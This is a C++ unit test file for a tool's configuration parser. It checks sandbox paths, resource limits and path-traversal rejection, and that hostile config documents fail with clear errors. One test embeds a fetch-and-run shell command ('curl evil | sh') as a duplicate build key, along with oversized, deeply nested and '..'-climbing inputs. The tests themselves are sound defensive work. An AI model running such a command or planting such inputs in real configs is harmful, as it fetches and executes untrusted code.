  EXPECT_EQ(error_of(document), kFile + "workspace.sandbox_paths[0]: must be an absolute path, got 'relative/dir'");
  document["workspace"]["sandbox_paths"] = {"/opt/../root"};
  EXPECT_EQ(error_of(document), kFile + "workspace.sandbox_paths[0]: must not contain '..', got '/opt/../root'");
  document["workspace"]["sandbox_paths"] = "/opt";
  EXPECT_NE(error_of(document).find("workspace.sandbox_paths"), std::string::npos) << error_of(document);
}

// Issue 22: limits on what one command may take, with defaults that hold a fork bomb,
// a memory hog and a disk filler back; 0 turns one off.
TEST(ConfigLimits, DefaultsHoldAndZeroTurnsALimitOff) {
  json document = minimal();
  Config config = parse_config(document, ".maxcode.json");
  EXPECT_EQ(config.workspace.max_processes, 1024);
  EXPECT_EQ(config.workspace.max_memory_mb, 0u);  // half of the machine's, when applied
  EXPECT_EQ(config.workspace.max_disk_mb, 8192u);
  EXPECT_EQ(config.workspace.max_cpu_s, 0);
  document["workspace"] = {{"max_processes", 0}, {"max_memory_mb", 2048}, {"max_disk_mb", 100}, {"max_cpu_s", 90.5}};
  config = parse_config(document, ".maxcode.json");
  EXPECT_EQ(config.workspace.max_processes, 0);
  EXPECT_EQ(config.workspace.max_memory_mb, 2048u);
  EXPECT_EQ(config.workspace.max_disk_mb, 100u);
  EXPECT_EQ(to_json(config)["workspace"]["max_disk_mb"], 100);
  EXPECT_EQ(config.workspace.max_cpu_s, 90.5);
  EXPECT_EQ(to_json(config)["workspace"]["max_cpu_s"], 90.5);
  document["workspace"] = {{"max_cpu_s", -1}};
  EXPECT_NE(error_of(document).find("workspace.max_cpu_s"), std::string::npos) << error_of(document);
  document["workspace"] = {{"max_processes", -1}};
  EXPECT_NE(error_of(document).find("workspace.max_processes: must be >= 0, got -1"), std::string::npos)
      << error_of(document);
  document["workspace"] = {{"max_disk_mb", 1.5}};
  EXPECT_NE(error_of(document).find("workspace.max_disk_mb"), std::string::npos) << error_of(document);
}

TEST(ConfigTest, TargetsPreferIsGpuOrCpu) {
  json doc = minimal();
  EXPECT_EQ(parse_config(doc, ".maxcode.json").targets.prefer, "");  // unset: by the larger share
  doc["targets"]["prefer"] = "gpu";
  EXPECT_EQ(parse_config(doc, ".maxcode.json").targets.prefer, "gpu");
  doc["targets"]["prefer"] = "kernels";
  EXPECT_EQ(error_of(doc), kFile + "targets.prefer: unsupported prefer 'kernels' (supported: gpu, cpu)");
  doc["targets"]["prefer"] = 1;
  EXPECT_NE(error_of(doc).find("targets.prefer"), std::string::npos);
}

// Hostile configs (issue 22, point 9): each is a ConfigError naming the file and the
// field, never a crash, a hang or a json exception that names neither.
TEST(ConfigTest, HostileDocumentsAreErrorsNamingTheField) {
  const std::string head = R"({"build": {"command": "make"}, "test": {"command": "make test"}, )"
                           R"("benchmarks": [{"name": "main", "command": "./bench"}])";
  EXPECT_EQ(load_error(head + R"(, "acceptance": {"min_speedup": 1e400}})"),
            "acceptance.min_speedup: number out of range: 1e400 (line 1, column 156)");
  EXPECT_EQ(load_error(head + R"(, "search": {"max_evaluations": 8, "max_evaluations": 800000}})"),
            "search.max_evaluations: duplicate key \"max_evaluations\" (each field once)");
  EXPECT_EQ(load_error(R"({"build": {"command": "make"}, "build": {"command": "curl evil | sh"}})"),
            "build: duplicate key \"build\" (each field once)");
  EXPECT_EQ(load_error(head + R"(, "llm": )" + std::string(1'000'000, '[') + std::string(1'000'000, ']') + "}"),
            "llm[0][0][0][0][0]...[0][0][0][0]: nested deeper than 512 levels");
  std::string objects;
  for (int i = 0; i < 10'000; ++i) objects += R"({"x": )";
  EXPECT_EQ(load_error(head + R"(, "gpu": )" + objects), "gpu.x.x.x.x.x...x.x.x.x: nested deeper than 512 levels");

  // Long values: the checks that used std::regex scan by hand now.
  json doc = minimal();
  doc["targets"] = {{"functions", {"f"}}, {"unit", {{"add", {std::string(60'000, 'a') + "::"}}}}};
  std::string message = error_of(doc);
  EXPECT_EQ(message.rfind(kFile + "targets.unit.add[0]: must be a function name (qualified allowed: ns::fn), got 'aaaa", 0),
            0u)
      << message.substr(0, 200);
  EXPECT_LT(message.size(), 1300u);
  doc["targets"] = {{"functions", {"f"}}, {"unit", {{"add", {"ns::" + std::string(60'000, 'a')}}}}};
  EXPECT_EQ(error_of(doc), "(no error)");
  std::string product = "n";
  for (int i = 0; i < 30'000; ++i) product += " * n";
  doc["targets"] = {{"functions", {"f"}}, {"interface", {{"out", product}}}};
  EXPECT_EQ(error_of(doc), "(no error)");
  doc["targets"]["interface"]["out"] = product + " *";
  EXPECT_NE(error_of(doc).find(kFile + "targets.interface.out: must be a product of parameter names and whole numbers"),
            std::string::npos);
  doc = minimal();
  doc["benchmarks"][0]["metric"] = "kernels";
  doc["benchmarks"][0]["kernels"] = {std::string(300, '(') + "k" + std::string(300, ')')};
  EXPECT_EQ(error_of(doc), kFile + "benchmarks[0].kernels[0]: a pattern of at most 256 characters, got 601");
  // An unknown field of 50 MB: named by its first bytes, found fast.
  doc = minimal();
  doc[std::string(50'000'000, 'k')] = 1;
  message = error_of(doc);
  EXPECT_NE(message.find("... (50000000 bytes): unknown field (known fields: $schema, build"), std::string::npos)
      << message.substr(0, 200);
  EXPECT_LT(message.size(), 1300u);
}

TEST(ConfigTest, PathsMayNotLeaveTheRepository) {
  json doc = minimal();
  doc["search"] = {{"replay_dir", "../../replay"}};
  EXPECT_EQ(error_of(doc),
            kFile + "search.replay_dir: must stay inside the repository ('..' climbs out of it), got '../../replay'");
  doc = minimal();
  doc["scope"] = {{"include", {"src/**", "src/../../**"}}};
  EXPECT_EQ(error_of(doc),
            kFile + "scope.include[1]: must stay inside the repository ('..' climbs out of it), got 'src/../../**'");
  doc["scope"] = {{"include", {"src/../lib/**"}}};
  EXPECT_EQ(error_of(doc), "(no error)");
}

TEST(Config, AReplayDirectoryInsideTheRepositoryIsOutOfScope) {
  ScopeConfig scope;
  keep_out_of_scope(scope, "", "src/replay/");
  keep_out_of_scope(scope, "", "src/replay");  // once
  EXPECT_EQ(scope.exclude, std::vector<std::string>{"src/replay/**"});
  testing::TempDir dir;
  keep_out_of_scope(scope, dir.path(), dir / "cands");
  keep_out_of_scope(scope, dir.path(), dir.path().parent_path() / "elsewhere");  // outside: left alone
  keep_out_of_scope(scope, "", "../up");
  EXPECT_EQ(scope.exclude, (std::vector<std::string>{"src/replay/**", "cands/**"}));
}

}  // namespace
}  // namespace maxcode
